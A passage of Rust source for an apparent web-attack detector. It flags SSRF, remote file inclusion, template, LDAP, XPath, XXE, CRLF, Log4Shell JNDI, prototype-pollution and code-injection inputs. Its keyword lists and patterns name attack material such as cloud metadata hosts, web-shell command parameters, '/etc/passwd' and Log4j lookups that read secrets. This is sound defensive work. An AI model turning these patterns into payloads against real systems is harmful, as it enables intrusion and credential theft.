        b"instance-data.ec2.internal",
        b"metadata.azure.com",
        b"metadata.packet.net",
        b"metadata.tencentyun.com",
    ];
    if METADATA_NAMES.contains(&host) {
        return HostClass::Metadata;
    }
    if host == b"localhost"
        || host.ends_with(b".localhost")
        || host == b"localhost.localdomain"
        || host == b"ip6-localhost"
        || host == b"ip6-loopback"
        || host == b"0"
    {
        return HostClass::Loopback;
    }
    // Wildcard DNS services that resolve an embedded address (`127.0.0.1.nip.io`).
    for suffix in [&b".nip.io"[..], b".sslip.io", b".xip.io", b".localtest.me"] {
        if let Some(prefix) = host.strip_suffix(suffix) {
            if suffix == b".localtest.me" {
                return HostClass::Loopback;
            }
            let embedded: Vec<u8> = prefix
                .iter()
                .map(|b| if *b == b'-' { b'.' } else { *b })
                .collect();
            let tail_start = embedded
                .iter()
                .rposition(|b| !b.is_ascii_digit() && *b != b'.')
                .map_or(0, |i| i + 1);
            if let Some(ip) = embedded.get(tail_start..).and_then(parse_ipv4_lenient) {
                return classify_ipv4(ip);
            }
        }
    }
    if host == b"localtest.me" {
        return HostClass::Loopback;
    }
    if host.ends_with(b".internal")
        || host.ends_with(b".local")
        || host.ends_with(b".svc")
        || host.ends_with(b".cluster.local")
        || host == b"kubernetes.default"
    {
        return HostClass::Private;
    }
    HostClass::Named
}

struct ParsedUrl<'a> {
    scheme: &'a [u8],
    host: &'a [u8],
    rest: &'a [u8],
    start: usize,
}

/// Finds URLs (`scheme://authority...`) in a lowercased value; at most `max`.
fn for_each_url<'a>(s: &'a [u8], max: usize, mut f: impl FnMut(ParsedUrl<'a>) -> bool) {
    let mut from = 0;
    let mut seen = 0;
    while seen < max {
        let Some(p) = s.get(from..).and_then(|r| find(r, b"://")) else {
            return;
        };
        let sep = from + p;
        let mut start = sep;
        while start > 0 && {
            let c = at(s, start - 1);
            c.is_ascii_alphanumeric() || matches!(c, b'+' | b'.' | b'-')
        } {
            start -= 1;
        }
        let scheme = s.get(start..sep).unwrap_or(&[]);
        let auth_start = sep + 3;
        let mut auth_end = auth_start;
        while auth_end < s.len()
            && !matches!(
                at(s, auth_end),
                b'/' | b'?' | b'#' | b'\\' | b' ' | b'"' | b'\'' | b'<' | b'>' | b'!'
            )
        {
            auth_end += 1;
        }
        let authority = s.get(auth_start..auth_end).unwrap_or(&[]);
        let host_port = match authority.iter().rposition(|b| *b == b'@') {
            Some(p) => authority.get(p + 1..).unwrap_or(&[]),
            None => authority,
        };
        let host = if host_port.first() == Some(&b'[') {
            match host_port.iter().position(|b| *b == b']') {
                Some(p) => host_port.get(..=p).unwrap_or(&[]),
                None => host_port,
            }
        } else {
            match host_port.iter().position(|b| *b == b':') {
                Some(p) => host_port.get(..p).unwrap_or(&[]),
                None => host_port,
            }
        };
        let rest_end = s
            .get(auth_end..)
            .and_then(|r| {
                r.iter()
                    .position(|b| matches!(b, b' ' | b'"' | b'\'' | b'<' | b'>'))
            })
            .map(|e| auth_end + e)
            .unwrap_or(s.len());
        let rest = s.get(auth_end..rest_end).unwrap_or(&[]);
        seen += 1;
        if !scheme.is_empty()
            && !f(ParsedUrl {
                scheme,
                host,
                rest,
                start,
            })
        {
            return;
        }
        from = auth_start;
    }
}

/// SSRF and remote file inclusion: URL values pointing inside the network,
/// at cloud metadata, through odd schemes, or at remote scripts.
pub fn url_checks(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b":/\\.") {
        return None;
    }
    let s = v.lower;
    let mut best: Option<Signal> = None;
    let consider = |sig: Signal, best: &mut Option<Signal>| {
        if best.as_ref().is_none_or(|b| b.confidence < sig.confidence) {
            *best = Some(sig);
        }
    };
    let lead = s.len() - s.trim_ascii_start().len();
    let max_urls = if v.has_any(b":") { 4 } else { 0 };
    for_each_url(s, max_urls, |url| {
        // `jar:http://...`, `netdoc:http://`: an outer scheme still anchors the URL
        let anchored = !ctx.prose()
            && s.get(lead..url.start).is_some_and(|pre| {
                pre.len() <= 16
                    && pre.iter().all(|b| {
                        b.is_ascii_alphanumeric() || matches!(b, b':' | b'+' | b'.' | b'-')
                    })
            });
        let class = classify_host(url.host);
        let odd_scheme = matches!(
            url.scheme,
            b"gopher"
                | b"dict"
                | b"file"
                | b"tftp"
                | b"jar"
                | b"netdoc"
                | b"ldap"
                | b"ldaps"
                | b"sftp"
                | b"smb"
                | b"netdoc+http"
        );
        if odd_scheme {
            let confidence = if url.scheme == b"file" && ctx.prose() {
                Confidence::Weak
            } else if anchored || url.scheme != b"file" {
                Confidence::Strong
            } else {
                Confidence::Medium
            };
            let (category, rule) = if url.scheme == b"file" {
                (Category::PathTraversal, "lfi.file-url")
            } else {
                (Category::Ssrf, "ssrf.scheme")
            };
            consider(
                Signal {
                    category,
                    rule,
                    confidence,
                    at: url.start,
                    message: "URL with a dangerous scheme",
                },
                &mut best,
            );
        }
        let web = matches!(
            url.scheme,
            b"http" | b"https" | b"ftp" | b"ftps" | b"ws" | b"wss"
        );
        if web || odd_scheme {
            let confidence = match class {
                HostClass::Metadata => Some(Confidence::Strong),
                HostClass::Loopback | HostClass::LinkLocal | HostClass::Unspecified => {
                    Some(if anchored {
                        Confidence::Strong
                    } else if ctx.prose() {
                        Confidence::Weak
                    } else {
                        Confidence::Medium
                    })
                }
                HostClass::Private => Some(if anchored {
                    Confidence::Strong
                } else {
                    Confidence::Weak
                }),
                HostClass::Public | HostClass::Named => None,
            };
            if let Some(confidence) = confidence {
                consider(
                    Signal {
                        category: Category::Ssrf,
                        rule: if class == HostClass::Metadata {
                            "ssrf.metadata"
                        } else {
                            "ssrf.internal"
                        },
                        confidence,
                        at: url.start,
                        message: "URL pointing at an internal address",
                    },
                    &mut best,
                );
            }
        }
        if web && anchored && matches!(class, HostClass::Public | HostClass::Named) {
            let path = url.rest.split(|b| *b == b'?').next().unwrap_or(&[]);
            const SERVER_SCRIPTS: &[&[u8]] = &[
                b".php", b".sh", b".pl", b".py", b".jsp", b".asp", b".aspx", b".cgi", b".inc",
                b".phtml",
            ];
            let server_script = SERVER_SCRIPTS.iter().any(|ext| path.ends_with(ext));
            // `.txt` shells are included as code too, but text files are also just text.
            let script = server_script || path.ends_with(b".txt");
            // A trailing `?`/`#`/NUL cuts off the suffix the application appends;
            // a command parameter drives a web shell.
            let lure = url.rest.ends_with(b"?")
                || url.rest.ends_with(b"#")
                || contains(url.rest, b"\0")
                || [&b"?cmd="[..], b"&cmd=", b"?c=", b"?exec=", b"?command="]
                    .iter()
                    .any(|p| contains(url.rest, p));
            let lname = ctx.name.to_ascii_lowercase();
            let rfi_param = RFI_PARAM_HINTS
                .iter()
                .any(|h| lname == *h || lname.ends_with(h));
            let raw_ip = parse_ipv4_lenient(url.host).is_some();
            let ftp = matches!(url.scheme, b"ftp" | b"ftps");
            let confidence = if script && (lure || raw_ip)
                || (server_script && ftp)
                || (lure && (rfi_param || raw_ip))
            {
                Some(Confidence::Strong)
            } else if script && rfi_param {
                Some(Confidence::Medium)
            } else {
                None
            };
            if let Some(confidence) = confidence {
                consider(
                    Signal {
                        category: Category::RemoteFileInclusion,
                        rule: "rfi",
                        confidence,
                        at: url.start,
                        message: "Remote file inclusion",
                    },
                    &mut best,
                );
            }
        }
        true
    });
    // Windows UNC paths to remote shares.
    let t = s.trim_ascii_start();
    if (t.starts_with(b"\\\\") || t.starts_with(b"//")) && best.is_none() {
        let host_end = t
            .iter()
            .skip(2)
            .position(|b| matches!(b, b'\\' | b'/'))
            .map(|p| p + 2)
            .unwrap_or(t.len());
        let host = t.get(2..host_end).unwrap_or(&[]);
        if !host.is_empty()
            && host
                .iter()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'[' | b']' | b':'))
            && host_end < t.len()
        {
            let class = classify_host(host);
            let category = if matches!(class, HostClass::Public | HostClass::Named) {
                Category::RemoteFileInclusion
            } else {
                Category::Ssrf
            };
            let confidence = if t.starts_with(b"\\\\")
                || class != HostClass::Named && class != HostClass::Public
            {
                Confidence::Strong
            } else {
                Confidence::Weak
            };
            consider(
                Signal {
                    category,
                    rule: if category == Category::Ssrf {
                        "ssrf.internal"
                    } else {
                        "rfi.unc"
                    },
                    confidence,
                    at: lead,
                    message: "Network path to a remote share",
                },
                &mut best,
            );
        }
    }
    // A bare address in a URL-ish parameter: `?host=169.254.169.254`.
    if best.is_none() && !v.has_any(b" \t\n") && s.len() <= 255 {
        let bare = s.trim_ascii();
        let host = match bare.iter().rposition(|b| *b == b':') {
            Some(p)
                if !bare.starts_with(b"[")
                    && bare.get(p + 1..).is_some_and(|port| {
                        !port.is_empty() && port.iter().all(u8::is_ascii_digit)
                    }) =>
            {
                bare.get(..p).unwrap_or(&[])
            }
            _ => bare,
        };
        if !host.is_empty()
            && host
                .iter()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'[' | b']' | b':'))
        {
            let class = classify_host(host);
            let confidence = match class {
                HostClass::Metadata
                    if host.iter().any(u8::is_ascii_digit) || host.contains(&b'.') =>
                {
                    Some(Confidence::Strong)
                }
                HostClass::Loopback
                | HostClass::LinkLocal
                | HostClass::Metadata
                | HostClass::Unspecified
                    if name_hints_url(ctx.name) =>
                {
                    Some(Confidence::Strong)
                }
                HostClass::Private if name_hints_url(ctx.name) => Some(Confidence::Medium),
                _ => None,
            };
            if let Some(confidence) = confidence {
                consider(
                    Signal {
                        category: Category::Ssrf,
                        rule: "ssrf.internal",
                        confidence,
                        at: lead,
                        message: "Internal address in a URL parameter",
                    },
                    &mut best,
                );
            }
        }
    }
    best
}

static SSTI_MARKER_SET: NeedleSet = NeedleSet::new(SSTI_MARKERS);

const SSTI_MARKERS: &[&[u8]] = &[
    b"__class__",
    b"__mro__",
    b"__subclasses__",
    b"__globals__",
    b"__builtins__",
    b"__import__",
    b"__init__",
    b"getruntime",
    b"processbuilder",
    b"java.lang.",
    b"freemarker.template",
    b"?new(",
    b"constructor.constructor",
    b"constructor(",
    b".popen(",
    b"os.system",
    b"exec(",
    b"system(",
    b"self._templatereference",
    b"request.application",
    b"config.items",
    b"lipsum.",
    b"cycler.",
    b"joiner.",
    b"namespace.",
    b"url_for.",
    b"get_flashed_messages",
    b".getclass(",
    b".forname(",
    b"$class.",
    b"_self.env",
    b"registerundefinedfiltercallback",
    b"{php}",
    b"@java.",
    b"t(java",
    b"file.open",
    b"file.read",
    b"io.popen",
    b"kernel.",
    b"%x(",
    b"`",
    b"/etc/passwd",
    b"/etc/shadow",
    b"require(",
    b"process.",
];

/// Server-side template injection: template expressions that compute or
/// reach into the runtime.
pub fn ssti(v: &Value<'_>, _ctx: &ValueContext<'_>) -> Option<Signal> {
    // every template syntax needs `{`, `<%`/`<#`, `[[` or `#set(`
    if !(v.has_any(b"{")
        || v.has_any(b"<") && v.has_any(b"%#")
        || v.has_any(b"[")
        || v.has_any(b"#") && v.has_any(b"("))
    {
        return None;
    }
    let s = v.lower;
    if contains(s, b"<#assign")
        || contains(s, b"<#import")
        || (contains(s, b"#set(") && contains(s, b"$"))
    {
        return signal(
            Category::TemplateInjection,
            "ssti",
            Confidence::Strong,
            0,
            "Template directive injection",
        );
    }
    if contains(s, b"{php}") || contains(s, b"{{=") && contains(s, b"}}") {
        return signal(
            Category::TemplateInjection,
            "ssti",
            Confidence::Strong,
            0,
            "Template code block",
        );
    }
    // Polyglot probes (`${{<%[%'"}}%\.`) stack the syntax of several engines.
    let families: [&[&[u8]]; 5] = [
        &[b"${"],
        &[b"{{", b"{%"],
        &[b"<%", b"%>"],
        &[b"#{"],
        &[b"*{"],
    ];
    let syntaxes = families
        .iter()
        .filter(|family| family.iter().any(|m| contains(s, m)))
        .count();
    if syntaxes >= 3 && s.len() <= 64 {
        return signal(
            Category::TemplateInjection,
            "ssti.probe",
            Confidence::Strong,
            0,
            "Template syntax polyglot probe",
        );
    }
    const OPENERS: &[(&[u8], &[u8])] = &[
        (b"{{", b"}}"),
        (b"${", b"}"),
        (b"#{", b"}"),
        (b"*{", b"}"),
        (b"@{", b"}"),
        (b"<%=", b"%>"),
        (b"<%", b"%>"),
        (b"{%", b"%}"),
        (b"[[", b"]]"),
    ];
    for (open, close) in OPENERS {
        let mut from = 0;
        let mut rounds = 0;
        while let Some(p) = s.get(from..).and_then(|r| find(r, open)) {
            rounds += 1;
            if rounds > 8 {
                break;
            }
            let start = from + p;
            let body_start = start + open.len();
            let body_slice = s.get(body_start..).unwrap_or(&[]);
            let body_end = find(body_slice, close).unwrap_or(body_slice.len().min(200));
            let body = body_slice.get(..body_end.min(400)).unwrap_or(&[]);
            // `${jndi:...}` is a lookup, judged by the JNDI check.
            if !(body.starts_with(b"jndi")
                || body.starts_with(b"${")
                || (*open == b"${"
                    && body.contains(&b':')
                    && !body.contains(&b'(')
                    && !body.contains(&b'*')))
            {
                if SSTI_MARKER_SET.find(body).is_some() {
                    return signal(
                        Category::TemplateInjection,
                        "ssti",
                        Confidence::Strong,
                        start,
                        "Template injection reaching the runtime",
                    );
                }
                if is_arithmetic_probe(body) {
                    let confidence = if *open == b"[[" {
                        Confidence::Medium
                    } else {
                        Confidence::Strong
                    };
                    return signal(
                        Category::TemplateInjection,
                        "ssti.probe",
                        confidence,
                        start,
                        "Template expression probe",
                    );
                }
            }
            from = body_start;
        }
    }
    None
}

/// `7*7`, `7*'7'`, `1337+1` inside a template expression: literal arithmetic
/// that only a probe writes.
fn is_arithmetic_probe(body: &[u8]) -> bool {
    let t = body.trim_ascii();
    if t.is_empty() || t.len() > 40 {
        return false;
    }
    let mut has_op = false;
    let mut has_digit = false;
    for &b in t {
        match b {
            b'0'..=b'9' => has_digit = true,
            b'*' | b'+' | b'-' | b'/' | b'%' => has_op = true,
            b' ' | b'\'' | b'"' | b'(' | b')' | b'.' => {}
            _ => return false,
        }
    }
    has_op
        && has_digit
        && t.first()
            .is_some_and(|b| b.is_ascii_digit() || *b == b'(' || *b == b'\'' || *b == b'"')
}

/// LDAP filter injection: closing a filter and opening new ones.
///
/// An injected value closes the filter it was pasted into, so its
/// parentheses go below zero depth (`*)(uid=*))(|(uid=*`). A balanced,
/// complete filter is a query someone wrote; it only counts with a wildcard
/// presence test (`(|(uid=*))`).
pub fn ldap(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b")") || !v.has_any(b"=*|&") {
        return None;
    }
    let s = v.lower;
    let mut depth: i32 = 0;
    let mut closed_outside = None;
    for (i, &b) in s.iter().enumerate() {
        match b {
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth < 0 && closed_outside.is_none() {
                    closed_outside = Some(i);
                }
            }
            _ => {}
        }
    }
    let reopens = [
        &b")(|("[..],
        b")(&(",
        b")(!(",
        b"(|(",
        b"(&(",
        b"(!(",
        b")(",
    ]
    .iter()
    .filter_map(|o| find(s, o))
    .min();
    let attribute_test = {
        let mut found = None;
        let mut from = 0;
        while let Some(p) = s.get(from..).and_then(|r| find(r, b"(")) {
            let pos = from + p;
            let mut start = pos + 1;
            while matches!(at(s, start), b'|' | b'&' | b'!' | b'(') {
                start += 1;
            }
            let mut j = start;
            while j < s.len()
                && (at(s, j).is_ascii_alphanumeric() || matches!(at(s, j), b'-' | b';' | b'.'))
            {
                j += 1;
            }
            if j > start
                && (at(s, j) == b'='
                    || matches!((at(s, j), at(s, j + 1)), (b'~' | b'<' | b'>', b'=')))
            {
                found = Some(pos);
                break;
            }
            from = pos + 1;
        }
        found
    };
    let (Some(open), Some(_)) = (
        reopens,
        attribute_test
            .or_else(|| find(s, b"(&)"))
            .or_else(|| find(s, b"(|)")),
    ) else {
        if s.starts_with(b"*)") && s.len() < 64 {
            // `*))%00`: a wildcard that closes the filter and cuts the rest off
            let cut = s.starts_with(b"*))") || contains(s, b"\0");
            let confidence = if cut {
                Confidence::Strong
            } else {
                Confidence::Medium
            };
            return signal(
                Category::LdapInjection,
                "ldap",
                confidence,
                0,
                "LDAP filter injection",
            );
        }
        return None;
    };
    let confidence = if closed_outside.is_some() {
        if ctx.prose() {
            Confidence::Medium
        } else {
            Confidence::Strong
        }
    } else if contains(s, b"=*)") && !ctx.prose() {
        Confidence::Strong
    } else {
        Confidence::Weak
    };
    signal(
        Category::LdapInjection,
        "ldap",
        confidence,
        closed_outside.unwrap_or(open),
        "LDAP filter injection",
    )
}

static XPATH_FUNCTION_SET: NeedleSet = NeedleSet::new(XPATH_FUNCTIONS);

const XPATH_FUNCTIONS: &[&[u8]] = &[
    b"count(",
    b"name(",
    b"string-length(",
    b"substring(",
    b"contains(",
    b"starts-with(",
    b"local-name(",
    b"text()",
    b"node()",
    b"position()",
    b"last()",
    b"normalize-space(",
    b"translate(",
    b"child::",
    b"descendant::",
    b"ancestor::",
    b"parent::",
    b"self::",
    b"following-sibling::",
    b"//*",
    b"/*[",
    b"doc(",
    b"document(",
];

/// XPath injection: a quote breakout combined with XPath functions, axes or
/// node-set unions.
pub fn xpath(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b"'\"") {
        return None;
    }
    let s = v.lower;
    let quote = s.iter().position(|b| matches!(b, b'\'' | b'"'));
    let union = if v.has_any(b"|") {
        find(s, b"|//")
            .or_else(|| find(s, b"| //"))
            .or_else(|| find(s, b"]|"))
    } else {
        None
    };
    if let (Some(q), Some(u)) = (quote, union) {
        return signal(
            Category::XpathInjection,
            "xpath",
            Confidence::Strong,
            q.min(u),
            "XPath injection (node-set union)",
        );
    }
    // a breakout near the start, then a condition built from XPath
    // functions or axes (each has `(`, `::` or `/`)
    quote.filter(|q| *q < 48)?;
    if !v.has_any(b"(:/") {
        return None;
    }
    let logic = v.has_any(b"])") || [&b" or "[..], b" and "].iter().any(|l| contains(s, l));
    if !logic {
        return None;
    }
    let func = XPATH_FUNCTION_SET.find(s)?;
    let confidence = if ctx.prose() {
        Confidence::Medium
    } else {
        Confidence::Strong
    };
    signal(
        Category::XpathInjection,
        "xpath",
        confidence,
        func,
        "XPath injection",
    )
}

/// XML external entities and entity expansion, wherever XML text appears.
pub fn xxe(v: &Value<'_>, _ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b"<") {
        return None;
    }
    let s = v.lower;
    if let Some(p) = find(s, b"<!entity") {
        return signal(
            Category::Xxe,
            "xxe.entity",
            Confidence::Strong,
            p,
            "XML entity declaration",
        );
    }
    if let Some(p) = find(s, b"<!doctype") {
        let decl = s.get(p..).unwrap_or(&[]);
        let end = memchr::memchr(b'>', decl).unwrap_or(decl.len());
        let head = decl.get(..end).unwrap_or(&[]);
        if contains(head, b" system") || contains(head, b" public") || contains(head, b"[") {
            return signal(
                Category::Xxe,
                "xxe.doctype",
                Confidence::Strong,
                p,
                "DOCTYPE with external subset",
            );
        }
    }
    if let Some(p) = find(s, b"xinclude") {
        if contains(s, b"href") {
            return signal(
                Category::Xxe,
                "xxe.xinclude",
                Confidence::Strong,
                p,
                "XInclude",
            );
        }
    }
    None
}

const INJECTED_HEADERS: &[&[u8]] = &[
    b"set-cookie",
    b"location",
    b"content-type",
    b"content-length",
    b"content-disposition",
    b"content-security-policy",
    b"refresh",
    b"transfer-encoding",
    b"access-control-allow-origin",
    b"access-control-allow-credentials",
    b"x-xss-protection",
    b"cache-control",
    b"link",
    b"host",
    b"cookie",
    b"authorization",
    b"x-forwarded-for",
    b"x-forwarded-host",
    b"connection",
    b"http/1.1",
    b"http/1.0",
];

/// CRLF / header injection.
pub fn crlf(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    if !v.has_any(b"\r\n") && memchr::memchr(0xe5, v.raw).is_none() {
        return None;
    }
    let s = v.lower;
    // Unicode characters some servers truncate to CR/LF, before a header.
    if let Some(p) = find(s, "\u{560a}".as_bytes()).or_else(|| find(s, "\u{560d}".as_bytes())) {
        let rest = s.get(p..).unwrap_or(&[]);
        if ctx.source.is_transport() || INJECTED_HEADERS.iter().any(|h| find(rest, h).is_some()) {
            return signal(
                Category::CrlfInjection,
                "crlf",
                Confidence::Strong,
                p,
                "Header injection (unicode CRLF)",
            );
        }
    }
    let mut from = 0;
    while let Some(p) = s
        .get(from..)
        .and_then(|r| r.iter().position(|b| matches!(b, b'\r' | b'\n')))
    {
        let pos = from + p;
        let mut j = pos;
        let mut saw_cr = false;
        while matches!(at(s, j), b'\r' | b'\n') && j < s.len() {
            saw_cr |= at(s, j) == b'\r';
            j += 1;
        }
        while matches!(at(s, j), b' ' | b'\t') {
            j += 1;
        }
        let rest = s.get(j..).unwrap_or(&[]);
        let colon = rest.iter().take(40).position(|b| *b == b':');
        let header = colon.and_then(|c| rest.get(..c));
        let token = header.is_some_and(|h| {
            !h.is_empty() && h.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'-')
        });
        // a header the response must not gain, named and followed by `:`
        // (or a forged status line)
        let known = token
            && header.is_some_and(|h| {
                INJECTED_HEADERS.contains(&h.trim_ascii_end()) || h.starts_with(b"x-")
            })
            || rest.starts_with(b"http/1.");
        let blank_line = find(s.get(pos..j).unwrap_or(&[]), b"\n\n").is_some()
            || find(s.get(pos..j).unwrap_or(&[]), b"\r\n\r\n").is_some();
        if ctx.source.is_transport() {
            // A blank line ends the headers: what follows is a forged body.
            // Markup after a line break is a forged body, unless the value
            // is a document that simply contains markup.
            let markup_after = rest.first() == Some(&b'<') && !ctx.prose();
            let forged_body = blank_line && (rest.starts_with(b"http/") || saw_cr && !ctx.prose());
            // in a multi-line document, a line such as `Link: see below` is prose
            if known && (saw_cr || !ctx.prose()) || (token && saw_cr) || forged_body || markup_after
            {
                return signal(
                    Category::CrlfInjection,
                    "crlf",
                    Confidence::Strong,
                    pos,
                    "Header injection",
                );
            }
            if token || known {
                return signal(
                    Category::CrlfInjection,
                    "crlf",
                    Confidence::Medium,
                    pos,
                    "Header-like line after a line break",
                );
            }
        } else if known
            && header.is_some()
            && (saw_cr || {
                // a single line break after a short token: `en\nLocation: ...`
                let prefix = s.get(..pos).unwrap_or(&[]);
                !prefix.iter().any(u8::is_ascii_whitespace)
                    && prefix.len() <= 40
                    && memchr::memchr(b'\n', rest).is_none()
            })
        {
            return signal(
                Category::CrlfInjection,
                "crlf",
                Confidence::Strong,
                pos,
                "Header injection",
            );
        }
        from = j.max(pos + 1);
    }
    None
}

/// Resolves Log4j-style nested lookups (`${${lower:j}ndi:...}`,
/// `${${::-j}${::-n}di:...}`) into `out`, bounded in depth and size.
pub fn resolve_lookups(input: &[u8], out: &mut Vec<u8>) {
    const MAX_DEPTH: usize = 16;
    let mut frames: Vec<Vec<u8>> = vec![Vec::new()];
    let mut i = 0;
    while i < input.len() {
        let b = at(input, i);
        if b == b'$' && at(input, i + 1) == b'{' && frames.len() < MAX_DEPTH {
            frames.push(Vec::new());
            i += 2;
            continue;
        }
        if b == b'}' && frames.len() > 1 {
            let content = frames.pop().unwrap_or_default();
            let resolved = eval_lookup(&content);
            if let Some(top) = frames.last_mut() {
                top.extend_from_slice(&resolved);
            }
            i += 1;
            continue;
        }
        if let Some(top) = frames.last_mut() {
            top.push(b);
        }
        i += 1;
    }
    out.clear();
    let mut iter = frames.into_iter();
    if let Some(first) = iter.next() {
        out.extend_from_slice(&first);
    }
    for frame in iter {
        out.extend_from_slice(b"${");
        out.extend_from_slice(&frame);
    }
}

fn eval_lookup(content: &[u8]) -> Vec<u8> {
    let lower: Vec<u8> = content.to_ascii_lowercase();
    if lower.starts_with(b"jndi:") {
        let mut v = b"${".to_vec();
        v.extend_from_slice(&lower);
        v.push(b'}');
        return v;
    }
    if let Some(p) = find(content, b":-") {
        return content.get(p + 2..).unwrap_or(&[]).to_vec();
    }
    if let Some(rest) = lower
        .strip_prefix(b"lower:")
        .or_else(|| lower.strip_prefix(b"upper:"))
    {
        // Java case mapping turns dotless `ı` into `I` and long `ſ` into `S`.
        // Bytes that are not UTF-8 are kept as they are: replacing each with
        // U+FFFD would triple them, and the result must never outgrow the input.
        let mut text = Vec::with_capacity(rest.len());
        for chunk in rest.utf8_chunks() {
            for ch in chunk.valid().chars() {
                let ch = match ch {
                    '\u{131}' => 'i',
                    '\u{17f}' => 's',
                    other => other,
                };
                let mut buf = [0u8; 4];
                text.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
            }
            text.extend_from_slice(chunk.invalid());
        }
        return text;
    }
    if let Some(rest) = lower.strip_prefix(b"date:") {
        return rest.iter().copied().filter(|b| *b != b'\'').collect();
    }
    Vec::new()
}

/// JNDI lookups (Log4Shell), including nested obfuscation.
pub fn jndi(v: &Value<'_>, scratch: &mut Vec<u8>) -> Option<Signal> {
    if !v.has_any(b"$") {
        return None;
    }
    let s = v.lower;
    let p = find(s, b"${")?;
    if contains(s, b"${jndi:") {
        return signal(
            Category::JndiInjection,
            "jndi",
            Confidence::Strong,
            p,
            "JNDI lookup injection",
        );
    }
    resolve_lookups(v.raw, scratch);
    scratch.make_ascii_lowercase();
    if contains(scratch, b"${jndi:")
        || contains(scratch, b"jndi:ldap")
        || contains(scratch, b"jndi:rmi")
        || contains(scratch, b"jndi:dns")
    {
        return signal(
            Category::JndiInjection,
            "jndi",
            Confidence::Strong,
            p,
            "Obfuscated JNDI lookup injection",
        );
    }
    // Other Log4j lookups used to exfiltrate: `${env:AWS_SECRET_ACCESS_KEY}`.
    for lookup in [
        &b"${env:"[..],
        b"${sys:",
        b"${java:",
        b"${ctx:",
        b"${main:",
        b"${k8s:",
        b"${docker:",
        b"${spring:",
        b"${bundle:",
        b"${log4j:",
        b"${web:",
        b"${base64:",
        b"${lower:",
        b"${upper:",
        b"${::-",
    ] {
        if let Some(q) = find(s, lookup) {
            return signal(
                Category::JndiInjection,
                "jndi.lookup",
                Confidence::Strong,
                q,
                "Log4j lookup injection",
            );
        }
    }
    None
}

/// Prototype pollution through a key or parameter name.
pub fn prototype_key(name: &[u8]) -> Option<Signal> {
    // JavaScript property names are case-sensitive: only these spellings pollute.
    if name.len() < 9 {
        return None;
    }
    let has = |needle: &[u8]| find(name, needle).is_some();
    let polluting = has(b"__proto__") || (has(b"constructor") && has(b"prototype"));
    polluting.then_some(Signal {
        category: Category::PrototypePollution,
        rule: "prototype-pollution",
        confidence: Confidence::Strong,
        at: 0,
        message: "Prototype pollution key",
    })
}

/// Prototype pollution payloads carried inside a value (JSON in a parameter).
pub fn prototype_value(v: &Value<'_>) -> Option<Signal> {
    // `__proto__` needs `_`; `constructor` + `prototype` as keys need quotes, brackets or dots
    if v.lower.len() < 9
        || !(v.has_any(b"_") || v.has_any(b"[\"") && contains(v.lower, b"prototype"))
    {
        return None;
    }
    let s = v.lower;
    let p = find(s, b"__proto__")
        .or_else(|| find(s, b"constructor").filter(|_| contains(s, b"prototype")))?;
    let quoted_key = s.get(..p).is_some_and(|b| {
        b.ends_with(b"\"") || b.ends_with(b"[") || b.ends_with(b".") || b.ends_with(b"'")
    });
    quoted_key.then_some(Signal {
        category: Category::PrototypePollution,
        rule: "prototype-pollution",
        confidence: Confidence::Strong,
        at: p,
        message: "Prototype pollution payload",
    })
}

static CODE_SET: NeedleSet = NeedleSet::new(&[
    b"<?php",
    b"phpinfo()",
    b"base64_decode(",
    b"getruntime().exec",
    b"__import__(",
    b"shell_exec(",
    b"passthru(",
    b"proc_open(",
    b"$_get[",
    b"$_post[",
    b"$_request[",
    b"child_process",
    b"process.mainmodule",
    b"#_memberaccess",
    b"@java.lang.runtime",
]);

/// Code injection and serialized-object payloads.
pub fn code(v: &Value<'_>, ctx: &ValueContext<'_>) -> Option<Signal> {
    let s = v.lower;
    if v.has_any(b"<$[_#") || has_call_shape(s) {
        if let Some(p) = CODE_SET.find(s) {
            let confidence = if ctx.prose() {
                Confidence::Medium
            } else {
                Confidence::Strong
            };
            return signal(
                Category::CodeInjection,
                "code",
                confidence,
                p,
                "Code injection",
            );
        }
    }
    let t = v.raw.trim_ascii();
    if t.starts_with(b"rO0AB") || t.starts_with(b"aced0005") || t.starts_with(b"\xac\xed\x00\x05") {
        return signal(
            Category::CodeInjection,
            "deserialization",
            Confidence::Strong,
            0,
            "Java serialized object",
        );
    }
    if t.len() > 6
        && t.starts_with(b"O:")
        && t.get(2).is_some_and(u8::is_ascii_digit)
        && contains(t, b":{")
    {
        return signal(
            Category::CodeInjection,
            "deserialization",
            Confidence::Strong,
            0,
            "PHP serialized object",
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx(source: Source) -> ValueContext<'static> {
        ValueContext::new(source, "q", b"")
    }

    #[test]
    fn resolved_lookups_keep_bytes_that_are_not_utf8_and_never_grow() {
        let mut out = Vec::new();
        resolve_lookups(b"${upper:\x94\x94j}ndi", &mut out);
        assert_eq!(out, b"\x94\x94jndi");
        resolve_lookups("${lower:\u{131}}${upper:\u{17f}}".as_bytes(), &mut out);
        assert_eq!(out, b"is");
    }

    proptest::proptest! {
        #[test]
        fn resolved_lookups_never_outgrow_their_input(
            input in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::prelude::Just(b'$'),
                    proptest::prelude::Just(b'{'),
                    proptest::prelude::Just(b'}'),
                    proptest::prelude::Just(b':'),
                    proptest::prelude::Just(b'-'),
                    proptest::prelude::any::<u8>(),
                ],
                0..200,
            ),
            prefix in proptest::prop_oneof![
                proptest::prelude::Just(&b"${upper:"[..]),
                proptest::prelude::Just(&b"${lower:"[..]),
                proptest::prelude::Just(&b"${jndi:"[..]),
                proptest::prelude::Just(&b""[..]),
            ],
        ) {
            let mut data = prefix.to_vec();
            data.extend_from_slice(&input);
            let mut out = Vec::new();
            resolve_lookups(&data, &mut out);
            proptest::prop_assert!(out.len() <= data.len(), "{} > {}", out.len(), data.len());
        }
    }

    fn val(s: &str) -> (Vec<u8>, Vec<u8>) {
        (s.as_bytes().to_vec(), s.to_ascii_lowercase().into_bytes())
    }

